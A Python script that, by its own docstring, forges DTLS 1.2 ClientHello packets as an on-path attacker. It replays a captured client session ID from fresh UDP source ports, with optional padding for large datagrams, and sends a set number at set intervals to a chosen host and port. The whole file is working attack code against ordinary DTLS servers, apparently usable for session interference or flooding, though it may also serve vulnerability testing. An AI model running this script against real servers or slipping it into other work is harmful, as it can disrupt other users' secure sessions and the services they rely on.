#!/usr/bin/env python3
"""Sends forged DTLS 1.2 ClientHellos, as an attacker who read a client's hello on the path.

  dtls_hello.py HOST PORT SESSION-ID-HEX COUNT INTERVAL [PAD]

Each hello is well formed (record and handshake lengths agree, PSK cipher suites, no
extensions but padding), carries SESSION-ID-HEX as its session id, and goes from a fresh
UDP source port. PAD adds that many bytes of a dummy extension, to make large datagrams.
Bounded: COUNT datagrams, INTERVAL seconds apart.
"""
import os
import socket
import struct
import sys
import time


def client_hello(session_id: bytes, pad: int) -> bytes:
    suites = [0x00A8, 0x00A9, 0xCCAB]  # PSK with AES-128/256-GCM, PSK with ChaCha20-Poly1305
    body = struct.pack("!H", 0xFEFD) + os.urandom(32)
    body += bytes([len(session_id)]) + session_id
    body += b"\x00"  # empty cookie
    body += struct.pack("!H", 2 * len(suites)) + b"".join(struct.pack("!H", s) for s in suites)
    body += b"\x01\x00"  # compression: null
    if pad:
        ext = struct.pack("!HH", 0x0015, pad) + b"\x00" * pad  # padding extension (RFC 7685)
        body += struct.pack("!H", len(ext)) + ext
    hs = bytes([1]) + len(body).to_bytes(3, "big") + b"\x00\x00" + b"\x00\x00\x00" + len(body).to_bytes(3, "big")
    hs += body
    return bytes([22]) + struct.pack("!H", 0xFEFD) + b"\x00\x00" + b"\x00" * 6 + struct.pack("!H", len(hs)) + hs


def main() -> int:
    host, port, sid_hex, count, interval = sys.argv[1], int(sys.argv[2]), sys.argv[3], int(sys.argv[4]), float(sys.argv[5])
    pad = int(sys.argv[6]) if len(sys.argv) > 6 else 0
    sid = bytes.fromhex(sid_hex)
    family = socket.AF_INET6 if ":" in host else socket.AF_INET
    for i in range(min(count, 10000)):
        s = socket.socket(family, socket.SOCK_DGRAM)
        s.sendto(client_hello(sid, pad), (host, port))
        s.close()
        if i + 1 < count:
            time.sleep(interval)
    return 0


if __name__ == "__main__":
    sys.exit(main())
